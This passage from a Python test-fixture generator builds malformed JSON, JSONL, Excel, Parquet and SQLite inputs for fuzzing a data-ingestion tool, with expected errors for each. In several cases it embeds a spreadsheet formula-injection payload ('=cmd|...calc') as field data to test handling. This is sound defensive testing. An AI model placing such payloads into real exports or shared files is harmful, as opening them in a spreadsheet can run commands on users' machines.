        "xlsx_corrupt_zip",
        "truncated",
        content=b"PK\x03\x04" + b"\x00" * 200,
        expect="error",
        error=r"tickets\.xlsx: cannot open as an Excel workbook",
    )
    add(
        "xlsx_empty_file",
        "empty",
        content=b"",
        expect="error",
        error=r"tickets\.xlsx: cannot open as an Excel workbook",
    )
    add(
        "xlsx_is_really_csv",
        "types",
        content=csv_text(TICKET_HEADER, [[str(c) for c in r] for r in rows]).encode(),
        expect="error",
        error=r"tickets\.xlsx: cannot open as an Excel workbook",
    )

    def truncated_book(folder: Path) -> None:
        _workbook(folder / "tickets.xlsx", {"Tickets": [TICKET_HEADER, *rows]})
        data = (folder / "tickets.xlsx").read_bytes()
        (folder / "tickets.xlsx").write_bytes(data[: len(data) // 2])

    add(
        "xlsx_truncated",
        "truncated",
        truncated_book,
        expect="error",
        error=r"tickets\.xlsx: cannot open as an Excel",
    )
    return cases


# ---------------------------------------------------------------------------------------------------
# JSON and JSON lines
# ---------------------------------------------------------------------------------------------------


def mention(i: int, **extra) -> dict[str, Any]:
    return {
        "mention_id": f"M{i}",
        "author": {"handle": f"@user{i % 4}", "name": "Ana"},
        "published_at": f"2026-10-{(i % 28) + 1:02d}T10:00:00Z",
        "text": f"Me encanta la tienda {i}",
        "network": "x",
        **extra,
    }


def order(i: int, items: Any = None) -> dict[str, Any]:
    if items is None:
        items = [{"line_id": f"W{i}-{k}", "total": 10.5 * k, "quantity": k} for k in (1, 2)]
    return {
        "order_id": f"W{i}",
        "created_at": "2026-10-03T10:00:00+02:00",
        "customer": {"id": f"u{i % 3}", "first_name": "Ana", "email": f"a{i}@b.es", "phone": "612345678"},
        "items": items,
    }


def json_cases() -> list[Case]:
    cases: list[Case] = []

    def add(
        name,
        family,
        content,
        base=MENTIONS_JSON,
        expect="ingest",
        records=None,
        reasons=(),
        error=None,
        staged=None,
        **spec_kw,
    ):
        data = content.encode("utf-8") if isinstance(content, str) else content
        cases.append(
            Case(
                name,
                family,
                spec(base, **spec_kw),
                expect,
                content=data,
                records=records,
                reasons=list(reasons),
                error=error,
                staged=staged,
            )
        )

    arr = json.dumps([mention(i) for i in range(1, 5)], ensure_ascii=False)
    add("json_control_valid", "control", arr, records=4, staged=4)
    add("json_empty_file", "empty", "", expect="error", error=r"mentions\.json: the file is empty")
    add("json_empty_array", "empty", "[]", records=0, staged=0)
    add("json_only_non_objects", "json", "[1, 2, 3]", records=3, staged=0, reasons=["malformed_row"])
    add(
        "json_empty_object",
        "json",
        "{}",
        expect="error",
        error=r"expected a JSON array of objects, found an object",
    )
    add(
        "json_object_with_one_list",
        "json",
        json.dumps({"data": [mention(1), mention(2)]}),
        records=2,
        staged=2,
    )
    add(
        "json_object_with_two_lists",
        "json",
        json.dumps({"a": [mention(1)], "b": [mention(2)]}),
        expect="error",
        error=r"found an object with keys \['a', 'b'\]",
    )
    add(
        "json_top_level_string",
        "json",
        '"hello"',
        expect="error",
        error=r"expected a JSON array of objects, found str",
    )
    add("json_top_level_null", "json", "null", expect="error", error=r"found NoneType")
    add(
        "json_array_of_mixed_values",
        "json",
        json.dumps([mention(1), 3, "x", None, [1], mention(2)]),
        records=6,
        staged=2,
        reasons=["malformed_row"],
    )
    add(
        "json_truncated",
        "truncated",
        arr[: len(arr) // 2],
        expect="error",
        error=r"mentions\.json: not valid JSON \(.* at line 1, column \d+\)",
    )
    add("json_trailing_comma", "json", arr[:-1] + ",]", expect="error", error=r"not valid JSON")
    add(
        "json_with_comments",
        "json",
        "// export\n" + arr,
        expect="error",
        error=r"not valid JSON .*line 1, column 1",
    )
    add(
        "json_lines_declared_json",
        "json",
        "\n".join(json.dumps(mention(i)) for i in range(3)),
        expect="error",
        error=r"not valid JSON .*use format: jsonl",
    )
    add(
        "json_nan_infinity_literals",
        "json",
        arr[:-1] + ', {"mention_id": NaN, "published_at": Infinity}]',
        records=5,
        staged=4,
        reasons=["missing_required"],
    )
    deep = "[" * 200_000 + "]" * 200_000
    add("json_deeply_nested", "json", deep, expect="error", error=r"mentions\.json: .*nested too deeply")
    deep_value = json.dumps([mention(1), {**mention(2), "text": "PLACEHOLDER"}]).replace(
        '"PLACEHOLDER"', "[" * 100_000 + "]" * 100_000
    )
    add("json_deeply_nested_value", "json", deep_value, expect="error", error=r"nested too deeply")
    wrong = [
        mention(1, text=["a", "list"]),
        mention(2, published_at={"date": "2026-10-02"}),
        mention(3, mention_id=12345),
        mention(4, published_at=1760000000),
        mention(5, author={"handle": None}),
        mention(6, text=True),
    ]
    add("json_wrong_types", "types", json.dumps(wrong), records=6, reasons=["missing_required"])
    add(
        "json_dotted_key_clashes_with_nested",
        "json",
        json.dumps([{**mention(1), "author.handle": "@flat"}, mention(2)]),
        records=2,
        staged=2,
    )
    missing = [mention(1), {"mention_id": "M2"}, {"author": {"handle": "@x"}}, mention(4)]
    add("json_missing_keys", "types", json.dumps(missing), records=4, staged=2, reasons=["missing_required"])
    add(
        "json_no_mapped_keys_at_all",
        "json",
        json.dumps([{"foo": 1}, {"bar": 2}]),
        expect="error",
        error=r"mentions\.json: column\(s\) .* not found",
    )
    add("json_bom_declared_utf8", "encoding", codecs.BOM_UTF8 + arr.encode(), records=4, staged=4)
    add("json_utf16_undeclared", "encoding", arr.encode("utf-16"), records=4, staged=4, encoding=None)
    add(
        "json_lone_surrogate",
        "encoding",
        json.dumps([mention(1), mention(2, text="bad \ud800 half")]),
        records=2,
        staged=1,
        reasons=["malformed_row"],
    )
    add(
        "json_huge_string",
        "huge",
        json.dumps([mention(1, text="ñ" * 2_000_000), mention(2)]),
        records=2,
        staged=1,
        reasons=["field_too_long"],
    )
    add(
        "json_huge_numbers",
        "numbers",
        json.dumps([mention(1, mention_id=10**40), mention(2)]).replace('"M2"', "1e400"),
        records=2,
        staged=2,
    )
    add(
        "json_duplicate_keys",
        "json",
        '[{"mention_id": "M1", "mention_id": "M9", "author": {"handle": "@a"},'
        ' "published_at": "2026-10-01", "text": "x", "network": "x"}]',
        records=1,
        staged=1,
    )
    add(
        "json_formula_injection",
        "formula",
        json.dumps([mention(1, text="=cmd|' /C calc'!A0"), mention(2, mention_id="@SUM(1+1)")]),
        records=2,
        staged=2,
    )

    # --- JSON lines (web orders exploded into items, and the web customers on the same file)
    lines = [json.dumps(order(i), ensure_ascii=False) for i in range(1, 5)]

    def addl(name, family, content, base=ORDERS_JSONL, **kw):
        add(name, family, content, base=base, **kw)

    addl("jsonl_control_valid", "control", "\n".join(lines) + "\n", records=4, staged=4)
    broken = [
        lines[0],
        '{"order_id": "W9", "customer": ',
        lines[1],
        "{'single': 'quotes'}",
        lines[2] + ",",
        "not json at all",
        lines[3],
    ]
    addl(
        "jsonl_invalid_lines",
        "json",
        "\n".join(broken) + "\n",
        records=7,
        staged=3,
        reasons=["malformed_row"],
    )
    addl(
        "jsonl_non_object_lines",
        "json",
        "\n".join([lines[0], "[1, 2]", "42", '"text"', "null", "true", lines[1]]),
        records=7,
        staged=2,
        reasons=["malformed_row"],
    )
    addl("jsonl_blank_lines", "json", "\n\n" + "\n\n".join(lines) + "\n   \n", records=4, staged=4)
    addl("jsonl_crlf", "json", "\r\n".join(lines) + "\r\n", records=4, staged=4)
    addl(
        "jsonl_truncated_last_line",
        "truncated",
        "\n".join(lines)[:-15],
        records=4,
        staged=3,
        reasons=["malformed_row"],
    )
    addl("jsonl_empty_file", "empty", "", expect="error", error=r"orders\.jsonl: the file is empty")
    addl(
        "jsonl_only_blank_lines",
        "empty",
        "\n \n\n",
        expect="error",
        error=r"orders\.jsonl: the file is empty",
    )
    pretty = json.dumps([order(1), order(2)], indent=2)
    addl(
        "jsonl_is_pretty_json_array",
        "json",
        pretty,
        expect="error",
        error=r"orders\.jsonl: .*a JSON array.*format: json",
    )
    sep = [
        json.dumps(
            order(1, items=[{"line_id": "W1-1", "total": 1, "quantity": 1, "note": "a\u2028b"}]),
            ensure_ascii=False,
        ),
        json.dumps(
            order(2, items=[{"line_id": "W2-1", "total": 1, "quantity": 1, "note": "c\u0085d\u2029e"}]),
            ensure_ascii=False,
        ),
        lines[2],
    ]
    addl("jsonl_unicode_line_separators_in_strings", "json", "\n".join(sep) + "\n", records=3, staged=3)
    addl(
        "jsonl_all_lines_broken",
        "json",
        "{broken\n[1]\nnope\n",
        records=3,
        staged=0,
        reasons=["malformed_row"],
    )
    addl(
        "jsonl_record_path_not_a_list",
        "json",
        "\n".join([lines[0], json.dumps(order(5, items={"line_id": "x"}))]),
        records=2,
        staged=1,
        reasons=["malformed_row"],
    )
    addl(
        "jsonl_record_path_empty_list",
        "json",
        "\n".join([lines[0], json.dumps(order(6, items=[]))]),
        records=2,
        staged=1,
        reasons=["malformed_row"],
    )
    addl(
        "jsonl_record_path_missing",
        "json",
        "\n".join([lines[0], json.dumps({"order_id": "W7"})]),
        records=2,
        staged=1,
        reasons=["malformed_row"],
    )
    addl(
        "jsonl_record_path_scalars",
        "json",
        "\n".join([lines[0], json.dumps(order(8, items=[1, "two"]))]),
        records=2,
        staged=1,
        reasons=["missing_required"],
    )
    addl(
        "jsonl_item_wrong_types",
        "types",
        "\n".join(
            [
                lines[0],
                json.dumps(
                    order(
                        9,
                        items=[
                            {"line_id": "W9-1", "total": "diez", "quantity": 1},
                            {"line_id": "W9-2", "total": 3, "quantity": -2},
                        ],
                    )
                ),
            ]
        ),
        records=2,
        staged=1,
        reasons=["invalid_number", "negative_quantity"],
    )
    addl(
        "jsonl_lone_surrogate",
        "encoding",
        "\n".join([lines[0], json.dumps(order(10)).replace("Ana", "\\udc80na")]),
        records=2,
        staged=1,
        reasons=["malformed_row"],
    )
    addl(
        "jsonl_mixed_encoding_declared_utf8",
        "encoding",
        ("\n".join(lines[:2]) + "\n").encode()
        + json.dumps(order(11), ensure_ascii=False).replace("Ana", "Íñigo").encode("cp1252"),
        expect="error",
        error=r"orders\.jsonl: cannot decode as 'utf-8' at byte \d+ \(line 3\)",
    )
    addl(
        "jsonl_huge_line",
        "huge",
        "\n".join(
            [
                lines[0],
                json.dumps(
                    order(
                        12, items=[{"line_id": f"W12-{k}", "total": 1, "quantity": 1} for k in range(20_000)]
                    )
                ),
            ]
        ),
        records=2,
        staged=2,
    )
    addl(
        "jsonl_party_invalid_contacts",
        "types",
        "\n".join(
            [
                lines[0],
                json.dumps(
                    {
                        **order(13),
                        "customer": {
                            "id": "u9",
                            "first_name": "=cmd|' /C calc'!A0",
                            "email": "not-an-email",
                            "phone": "12",
                        },
                    }
                ),
                "{broken",
            ]
        ),
        base=WEB_PARTY_JSONL,
        records=3,
        staged=2,
        reasons=["invalid_email", "invalid_phone", "malformed_row"],
    )
    addl(
        "jsonl_party_duplicate_customers",
        "types",
        "\n".join(lines),
        base=WEB_PARTY_JSONL,
        records=4,
        staged=4,
    )
    return cases


# ---------------------------------------------------------------------------------------------------
# Parquet and SQL
# ---------------------------------------------------------------------------------------------------


def parquet_cases() -> list[Case]:
    import pandas as pd
    import pyarrow as pa
    import pyarrow.parquet as pq

    cases: list[Case] = []

    def add(
        name,
        family,
        build=None,
        content=None,
        expect="ingest",
        records=None,
        reasons=(),
        error=None,
        staged=None,
        **spec_kw,
    ):
        cases.append(
            Case(
                name,
                family,
                spec(PARTY_PARQUET, **spec_kw),
                expect,
                content=content,
                build=build,
                records=records,
                reasons=list(reasons),
                error=error,
                staged=staged,
            )
        )

    def frame(n: int) -> pd.DataFrame:
        return pd.DataFrame(
            {
                "card": [f"L{i}" for i in range(n)],
                "first": ["Ana"] * n,
                "last": ["Ruiz Gil"] * n,
                "mail": [f"a{i}@b.es" for i in range(n)],
                "born": pd.to_datetime(["1980-02-01"] * n),
            }
        )

    def write(df_or_table):
        def build(folder: Path) -> None:
            if isinstance(df_or_table, pa.Table):
                pq.write_table(df_or_table, folder / "members.parquet")
            else:
                df_or_table.to_parquet(folder / "members.parquet", index=False)

        return build

    add("parquet_control_valid", "control", write(frame(4)), records=4, staged=4)
    add("parquet_empty_table", "empty", write(frame(0)), records=0, staged=0)
    add(
        "parquet_corrupt",
        "truncated",
        content=b"PAR1" + b"\x00" * 64 + b"PAR1",
        expect="error",
        error=r"members\.parquet: cannot read as Parquet",
    )
    add(
        "parquet_empty_file",
        "empty",
        content=b"",
        expect="error",
        error=r"members\.parquet: cannot read as Parquet",
    )
    add(
        "parquet_is_really_csv",
        "types",
        content=b"card,first\nL1,Ana\n",
        expect="error",
        error=r"cannot read as Parquet",
    )

    def truncated(folder: Path) -> None:
        frame(50).to_parquet(folder / "members.parquet", index=False)
        data = (folder / "members.parquet").read_bytes()
        (folder / "members.parquet").write_bytes(data[: len(data) - 40])

    add("parquet_truncated", "truncated", truncated, expect="error", error=r"cannot read as Parquet")
    wrong = frame(4)
    wrong["mail"] = [1, 2, 3, 4]
    wrong["born"] = ["yesterday", "1980-02-01", None, "31/02/1980"]
    add(
        "parquet_wrong_types",
        "types",
        write(wrong),
        records=4,
        staged=4,
        reasons=["invalid_email", "invalid_date"],
    )
    nested = pa.table(
        {
            "card": ["L1", "L2", "L3"],
            "first": [["Ana", "María"], None, ["Luis"]],
            "last": [{"a": "Ruiz", "b": "Gil"}, None, {"a": "Paz", "b": None}],
            "mail": [b"a@b.es", b"\xff\xfe", None],
            "born": pa.array([0, 1, 2], type=pa.int64()),
        }
    )
    add("parquet_nested_and_binary", "types", write(nested), records=3, staged=3, reasons=["invalid_email"])
    import datetime as dt

    utc = dt.UTC
    tz = pa.table(
        {
            "card": ["L1", "L2", "L3"],
            "first": ["Ana"] * 3,
            "last": ["Ruiz"] * 3,
            "mail": ["a@b.es"] * 3,
            "born": pa.array(
                [dt.datetime(1980, 2, 1, 23, 30, tzinfo=utc), None, dt.datetime(2999, 1, 1, tzinfo=utc)],
                type=pa.timestamp("us", tz="UTC"),
            ),
        }
    )
    add(
        "parquet_tz_aware_and_null_dates",
        "dates",
        write(tz),
        records=3,
        staged=3,
        reasons=["date_out_of_range"],
    )
    dupcol = pa.table(
        [
            pa.array(["L1", "L2"]),
            pa.array(["Ana", "Luis"]),
            pa.array(["Ruiz", "Paz"]),
            pa.array(["a@b.es", "c@d.es"]),
            pa.array(["x", "y"]),
        ],
        names=["card", "first", "last", "mail", "mail"],
    )
    add(
        "parquet_duplicate_column_names",
        "header",
        write(dupcol),
        records=2,
        staged=2,
        columns={"source_id": "card", "given_name": "first", "family_names": "last", "email": "mail"},
    )
    add(
        "parquet_missing_columns",
        "header",
        write(frame(2).drop(columns=["mail"])),
        expect="error",
        error=r"column\(s\) \['mail'\] not found",
    )
    return cases


def _sqlite(rows: list[tuple], create: str = "create table members (card, first, last, mail)"):
    def build(folder: Path) -> None:
        with sqlite3.connect(folder / "loyalty.sqlite") as con:
            con.execute(create)
            if rows:
                con.executemany(f"insert into members values ({','.join('?' * len(rows[0]))})", rows)
        con.close()

    return build


def sql_cases() -> list[Case]:
    cases: list[Case] = []

    def add(
        name,
        family,
        build=None,
        content=None,
        expect="ingest",
        records=None,
        reasons=(),
        error=None,
        staged=None,
        **spec_kw,
    ):
        cases.append(
            Case(
                name,
                family,
                spec(PARTY_SQL, **spec_kw),
                expect,
                content=content,
                build=build,
                records=records,
                reasons=list(reasons),
                error=error,
                staged=staged,
            )
        )

    rows = [("L1", "Pepe", "Prados García", "p@e.es"), ("L2", "Ana", "Ruiz", None)]
    add("sql_control_valid", "control", _sqlite(rows), records=2, staged=2)
    add(
        "sql_unreachable_postgres",
        "sql",
        expect="error",
        error=r"sql_unreachable_postgres: cannot read from postgresql://scv:\*\*\*@127\.0\.0\.1:9/crm",
        url="postgresql://scv:s3cr3t-pw@127.0.0.1:9/crm",
    )
    add(
        "sql_unreachable_mysql_driver_missing",
        "sql",
        expect="error",
        error=r"cannot read from mysql://scv:\*\*\*@db\.invalid/crm",
        url="mysql://scv:s3cr3t-pw@db.invalid/crm",
    )
    add(
        "sql_unknown_dialect",
        "sql",
        expect="error",
        error=r"cannot read from nosuchdb://",
        url="nosuchdb://h/x",
    )
    add(
        "sql_malformed_url_with_password",
        "sql",
        expect="error",
        error=r"cannot read from .*\*\*\*",
        url="postgresql//scv:s3cr3t-pw@host/db",
    )
    add(
        "sql_sqlite_missing_file",
        "sql",
        expect="error",
        error=r"SQLite database .*nowhere\.sqlite not found",
        url="sqlite:///${SCV_RAW_DIR}/nowhere.sqlite",
    )
    add(
        "sql_sqlite_not_a_database",
        "sql",
        content=b"this is not a database" * 100,
        expect="error",
        error=r"cannot read from sqlite:.*not a database",
        path=None,
    )
    add(
        "sql_missing_table",
        "sql",
        _sqlite(rows),
        expect="error",
        error=r"no such table: nowhere",
        query="select * from nowhere",
    )
    add(
        "sql_query_syntax_error",
        "sql",
        _sqlite(rows),
        expect="error",
        error=r"cannot read from .*syntax error",
        query="selec * form members",
    )
    add(
        "sql_env_var_unset",
        "sql",
        _sqlite(rows),
        expect="error",
        error=r"sql_env_var_unset: environment variable SCV_FUZZ_UNSET_PASSWORD is not set",
        url="postgresql://scv:${SCV_FUZZ_UNSET_PASSWORD}@127.0.0.1:9/crm",
    )
    add("sql_zero_rows", "empty", _sqlite([]), records=0, staged=0)
    mixed = [
        ("L1", "Pepe", "Prados", "p@e.es"),
        (2, 3.5, b"\x00\xff", 7),
        (None, "Ana", "Ruiz", "x"),
        ("L4", "=cmd|' /C calc'!A0", "Ruiz", "a@b.es"),
    ]
    add(
        "sql_dynamic_types_and_nulls",
        "types",
        _sqlite(mixed),
        records=4,
        staged=3,
        reasons=["missing_required", "invalid_email"],
    )
    add(
        "sql_duplicate_column_names",
        "header",
        _sqlite(rows),
        records=2,
        staged=2,
        query="select card, first, last, mail, mail from members",
    )
    bad_utf8 = _sqlite([("L1", "Pepe", "Prados", "p@e.es")])

    def invalid_text(folder: Path) -> None:
        bad_utf8(folder)
        with sqlite3.connect(folder / "loyalty.sqlite") as con:
            con.execute("insert into members values ('L2', cast(x'ff41' as text), 'Ruiz', 'a@b.es')")
        con.close()

    add("sql_invalid_utf8_text", "encoding", invalid_text, expect="error", error=r"cannot read from sqlite:")
    for case in cases:  # the SQL url, not a path, locates these sources
        case.spec.pop("path", None)
    return cases


def all_cases() -> list[Case]:
    from tests.fuzz.more_cases import all_more_cases

    cases = csv_cases() + invoice_cases() + excel_cases() + json_cases() + parquet_cases() + sql_cases()
    cases += all_more_cases()
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


def generate(out: Path = DEFAULT_OUT) -> list[dict[str, Any]]:
    """Write every case into `out` (replacing it) and return the manifest (also `out/cases.json`)."""
    out = Path(out)
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    manifest = []
    for case in all_cases():
        folder = out / case.name
        folder.mkdir()
        if case.build is not None:
            case.build(folder)
        elif case.content is not None:
            target = case.spec.get("path") or "loyalty.sqlite"
            (folder / target).write_bytes(case.content)
        manifest.append(case.manifest())
    (out / "cases.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False), encoding="utf-8")
    return manifest


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else DEFAULT_OUT
    cases = generate(target)
    malformed = sum(1 for c in cases if c["family"] != "control")
    print(f"{len(cases)} cases ({malformed} malformed, {len(cases) - malformed} controls) -> {target}")
